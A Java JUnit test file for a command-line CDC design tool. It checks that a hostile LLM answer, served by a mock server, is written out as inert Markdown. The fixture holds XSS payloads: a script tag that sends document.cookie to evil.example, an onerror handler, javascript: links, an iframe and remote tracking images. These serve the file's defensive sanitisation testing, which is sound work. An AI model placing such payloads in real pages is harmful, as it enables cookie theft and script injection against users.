package dev.cdcarchitect.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.vladsch.flexmark.html.HtmlRenderer;
import com.vladsch.flexmark.parser.Parser;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import java.util.Map;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.junit5.StartStop;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A hostile model answer written by {@code design --engine llm}: the file and standard output hold inert Markdown only. */
@Tag("adversarial")
class InertLlmAnswerCliTest {

    static final String HOSTILE = """
            ## 1. CDC Engine Selection & Configuration
            <script>fetch('https://evil.example/?c='+document.cookie)</script>

            - Debezium <img src=x onerror="alert(1)"> with pgoutput. ![track](http://evil.example/pixel.png)
            ## 2. Log Replication Protocol & Snapshot Strategy
            - [Read the guide](javascript:alert(document.domain)) and [docs](https://debezium.io/documentation/).
            ## 3. Schema Registry & Evolution Policy
            - <iframe src="https://evil.example"></iframe> Avro.
            ## 4. Event Streaming Topology (Partitioning & Ordering)
            - Key by PK. <a href="javascript:alert(2)">here</a>
            ## 5. Failure Domains & Recovery (Offset Management)
            - DLQ. ![x][ref]

            [ref]: https://evil.example/x.gif
            """;

    @StartStop
    final MockWebServer server = new MockWebServer();

    @TempDir
    Path dir;

    private MockResponse answer(String markdown) throws Exception {
        String chunk = new ObjectMapper().writeValueAsString(Map.of("choices", java.util.List.of(Map.of("delta", Map.of("content", markdown)))));
        return new MockResponse.Builder().addHeader("Content-Type", "text/event-stream").body("data: " + chunk + "\n\ndata: [DONE]\n\n").build();
    }

    private CliRun design(String... extra) {
        java.util.List<String> args = new java.util.ArrayList<>(java.util.List.of("design", "--engine", "llm", "--llm-base-url",
                server.url("/v1").toString(), "--source", "PostgreSQL 14, 50TB volume, 10k TPS, heavy update workload on composite primary keys.",
                "--target", "Confluent Kafka with target sinks to Snowflake and Elasticsearch."));
        args.addAll(java.util.List.of(extra));
        return CliRun.of(args.toArray(String[]::new));
    }

    static void assertInert(String markdown) {
        String lower = markdown.toLowerCase(Locale.ROOT);
        for (String tag : new String[] {"<script", "<img", "<iframe", "<a "}) assertFalse(lower.contains(tag), tag + " left in: " + markdown);
        assertFalse(markdown.matches("(?s).*!\\[[^\\]]*]\\(\\s*https?:.*"), "remote image left in: " + markdown);
        String html = HtmlRenderer.builder().build().render(Parser.builder().build().parse(markdown)).toLowerCase(Locale.ROOT);
        assertFalse(html.contains("<script") || html.contains("<img") || html.contains("<iframe"), html);
        assertFalse(html.matches("(?s).*<[a-z][^>]*\\son[a-z]+=.*"), "no live event handler: " + html);
        assertFalse(html.matches("(?s).*href=\"(?!https?://).*"), "only http(s) link targets: " + html);
    }

    @Test
    void theWrittenFileIsInertAndTheWarningSaysSo() throws Exception {
        server.enqueue(answer(HOSTILE));
        Path out = dir.resolve("spec.md");
        CliRun run = design("--out", out.toString());
        assertEquals(0, run.code(), "the five sections are still found in the sanitised text: " + run.err());
        String written = Files.readString(out);
        assertInert(written);
        assertTrue(written.contains("## 3. Schema Registry & Evolution Policy"), written);
        assertTrue(written.contains("[docs](https://debezium.io/documentation/)"), "http(s) links are kept: " + written);
        assertTrue(written.contains("Read the guide") && written.contains("track"), "link and image text are kept as text: " + written);
        assertTrue(run.err().contains("raw HTML was escaped"), run.err());
        assertFalse(run.err().contains("shown as text only"), run.err());
    }

    @Test
    void standardOutputGetsTheSameInertText() throws Exception {
        server.enqueue(answer(HOSTILE));
        CliRun run = design();
        assertEquals(0, run.code(), run.err());
        assertInert(run.out());
    }
}
